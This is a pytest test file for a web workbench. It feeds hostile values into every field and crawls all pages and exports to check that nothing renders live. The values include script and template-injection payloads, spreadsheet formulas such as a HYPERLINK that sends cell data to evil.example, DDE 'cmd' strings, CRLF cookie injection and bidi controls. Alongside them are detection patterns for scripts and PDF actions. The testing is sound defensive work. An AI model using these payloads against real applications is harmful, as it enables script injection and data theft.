"""A name that attacks, in every place that a name can stand: every page and every file that the workbench gives is looked at."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

pytest.importorskip("uvicorn")

from browsers import Answer, Browser, do_here, entered, hidden, linked, opened, sent, workbench

from proscribe.web.application import Workbench
from proscribe.wording.safe import is_formula_like

Bench = tuple[Workbench, Browser]
#: What each name begins with, so that it begins a cell, a line or a header; the rest attacks pages.
NAMES = {
    "formula": (
        '=HYPERLINK("https://evil.example/"&A1)"\'><script>alert(1)</script><img src=x onerror=alert(1)>{{7*7}} hx-get=/x</textarea>'
        "<a href='javascript:alert(1)'>]]>&lt;&#x3c;script&#x3e;alert(1)<!--<![CDATA[<marquee>%3Cscript%3E${7*7}"
    ),
    "lines": "@SUM(1+1)*cmd|' /C calc'!A0\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>",
    "turned": (
        "\t-2+3+cmd|' /C calc'!A0 \u202efdp.exe \u2066<svg onload=alert(1)>\u2069 \u200b\x1b[31m\x07\u2028\x85\ufeff"
        + "../../CON/ \U0001f469\u200d\U0001f692 " * 200
    ),
}
#: Bidirectional controls and what moves a terminal: no page shows them as they are; what a form sends back stays as it was.
_HIDDEN = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
_XML = (".xml", ".rels", ".vml")


class Faults(HTMLParser):
    """Finds what a page must not hold, wherever it comes from."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.shown: list[str] = []

    def handle_data(self, data: str) -> None:
        self.shown.append(data)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = {name: value or "" for name, value in attrs}
        if tag in ("marquee", "iframe", "object", "embed", "base") or (
            tag == "script" and "nonce" not in told
        ):
            self.found.append(f"<{tag}>")
        self.shown += [
            value for name, value in told.items() if name in ("title", "alt", "placeholder", "aria-label")
        ]
        for name, value in told.items():
            if name.startswith(("on", "hx-", "style", "srcdoc")):
                self.found.append(f"{tag} {name}={value[:60]!r}")
            if name in ("href", "src", "action", "formaction") and not re.match(
                r"[/?#]|https://|data:image/|data:,$|mailto:|$", value
            ):
                self.found.append(f"{tag} {name}={value[:60]!r}")
            if name in ("href", "action") and "evil.example" in value.partition("?")[0]:
                self.found.append(f"{tag} {name}={value[:60]!r}")


def faults_of_page(answer: Answer) -> list[str]:
    """Say what is wrong with a page."""
    found = Faults()
    found.feed(answer.text)
    told = [*found.found, *(repr(one) for one in _HIDDEN.findall("".join(found.shown)))]
    if "evil" in answer.headers.get("set-cookie", ""):
        told.append("a cookie that somebody else made")
    # 49 is what a template would make of {{7*7}}; it stands there as it was written, or not at all.
    return told + ["a template"] * (
        "{{7*7}}" not in answer.text and re.search(r">\s*49 hx-get", answer.text) is not None
    )


def faults_of_file(name: str, data: bytes) -> list[str]:
    """Say what is wrong with a file that is saved, or one inside of it."""
    if data.startswith(b"PK\x03\x04"):
        archive = zipfile.ZipFile(io.BytesIO(data))
        told = [
            f"the name {one!r}"
            for one in archive.namelist()
            if re.search(r"(^|/)\.\.|^/|\\|[\x00-\x1f\u202e]", one)
        ]
        told += [
            f"{one}: {fault}"
            for one in archive.namelist()
            for fault in faults_of_file(one, archive.read(one))
        ]
        if name.endswith(".xlsx") and not told:
            book = openpyxl.load_workbook(io.BytesIO(data))
            told += [
                f"a formula {cell.value!r}" for sheet in book for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f" and re.search(r"HYPERLINK|SUM\(1\+1\)|cmd", str(cell.value))
            ]  # fmt: skip
        return told
    if name.endswith(".csv"):
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
        return [f"a cell {cell!r}" for row in rows for cell in row if is_formula_like(cell)]
    if name.endswith(_XML):
        try:
            ElementTree.fromstring(data)
        except ElementTree.ParseError as problem:
            return [f"no XML: {problem}"]
        return ["an address"] * bool(re.search(rb'Target="(javascript|https://evil)', data))
    if name.endswith(".json"):
        json.loads(data)
    if name.endswith(".html"):
        page = Faults()
        page.feed(data.decode())
        return [one for one in page.found if "style" not in one and one != "<script>"]
    if data.startswith(b"%PDF"):
        return [
            repr(one)
            for one in re.findall(rb"/JavaScript|/JS\b|/Launch|/URI\s*\((?:javascript|https://evil)", data)
        ]
    return []


@pytest.fixture(params=list(NAMES.values()), ids=list(NAMES))
def filled(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Bench, str]]:
    """A workbench in which every name that somebody can give is the same; gives it with the case."""
    name = request.param
    with workbench(str(tmp_path / "cases.db"), person="R. Ito", zone="UTC") as bench:
        made, browser = bench[0], entered(*bench)
        book = openpyxl.Workbook()
        sheet = book.active
        assert sheet is not None
        cell = "".join(one for one in name if (one >= " " or one in "\r\n\t"))
        sheet.title = re.sub(r"[\\*?:/\[\]\r\n\t]|^'|'$", "", cell)[:31].strip("'") or "x"
        for row in (["Asset", "Maker", "Model", "Site", cell], [cell, "Hikvision", "DS-2CD2143G2-I", cell, cell],
                    ["A2", "Dahua", "IPC-HFW2431S-S-S2", "Depot", ""], [cell, cell, "Wall bracket DS-1273ZJ-140", cell, ""]):  # fmt: skip
            sheet.append(row)
            for one in sheet[sheet.max_row]:
                one.data_type = "s"
        data = io.BytesIO()
        book.save(data)
        sent_as = name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
        case = opened(bench, [(f"{sent_as[:500]}.xlsx", data.getvalue())])
        browser.post(f"{case}/views?firm=dahua", [("view", name)])
        sent(bench, f"{case}/law", [("situation", "own")])
        finding = browser.get(linked(browser.get(f"{case}/findings"), rf"{case}/findings/f_[0-9a-f]+"))
        told = [("verdict", "unsure"), ("reason", name), ("version", hidden(finding, "version"))]
        assert browser.post(finding.path, told).status == 200
        browser.post(f"{case}/waivers", [
            ("grantor", "agency_head"), ("part", "b"), ("scope", name), ("agency", name), ("justification", name),
            ("phase_out", name), ("from_findings", "1"), ("valid_to", "2027-01-31"),
        ])  # fmt: skip
        browser.post(
            f"{case}/suppliers",
            [("suppliers", f"{name.splitlines()[0]}; a@northgate.example"), ("asked_by", name)],
        )
        browser.post(f"{case}/devices")
        do_here(made)
        given = [
            ("type", "portfolio-summary"),
            ("organisation", name),
            ("approver", name),
            ("signer", name),
            ("contract", name),
        ]
        for deed in ("look", "keep"):
            sent(bench, f"{case}/document", [*given, ("do", deed)])
        tables = f'Contract,Kind,Agency,Clauses,Awarded on,Ends on\n"{cell.replace(chr(34), chr(34) * 2)}",contract,GSA,52.204-25 (NOV 2021),2024-05-20,2028-05-31\n'
        looked = browser.hand_in(
            [("contracts.csv", tables.encode())], more=[("page", "choice"), ("case", case.rsplit("/", 1)[1])]
        )
        browser.post(f"{case}/choice", [("upload", hidden(looked, "upload"))])
        do_here(made)
        browser.get("/administration")
        browser.post("/administration/tokens", [("title", name), ("role", "viewer"), ("days", "1")])
        yield bench, case


def test_no_page_and_no_file_lets_a_name_be_more_than_a_name(filled: tuple[Bench, str]) -> None:
    (_, browser), case = filled
    todo = ["/", case, "/administration", "/clocks", f"/why?q={'%3Cscript%3E'}"]
    seen, pages, files, carried, told = set(todo), 0, 0, 0, []
    while todo:
        path = todo.pop(0)
        answer = browser.call("GET", path)
        if "attachment" in answer.headers.get("content-disposition", ""):
            files += 1
            saved = answer.headers["content-disposition"]
            assert re.fullmatch(r'attachment; filename="[A-Za-z0-9_.-]+"', saved), saved
            faults = faults_of_file(saved.rstrip('"'), answer.text.encode("latin-1"))
        else:
            pages += 1
            carried += "alert(1)" in answer.text or "evil" in answer.text or "SUM(1+1)" in answer.text
            faults = faults_of_page(answer)
        told += [(path, one) for one in ([*faults, "it fell over"] if answer.status >= 500 else faults)]
        found = [unescape(one) for one in re.findall(r'href="(/[^"#]*)', answer.text)]
        for one in found:
            if (
                one.startswith("/static/")
                or one in seen
                or sum(known.partition("?")[0] == one.partition("?")[0] for known in seen) > 3
            ):
                continue
            seen.add(one)
            todo.append(one)
    assert not told, told[:10]
    assert pages > 20 and files > 3 and carried > 8  # the name did stand where it was looked for
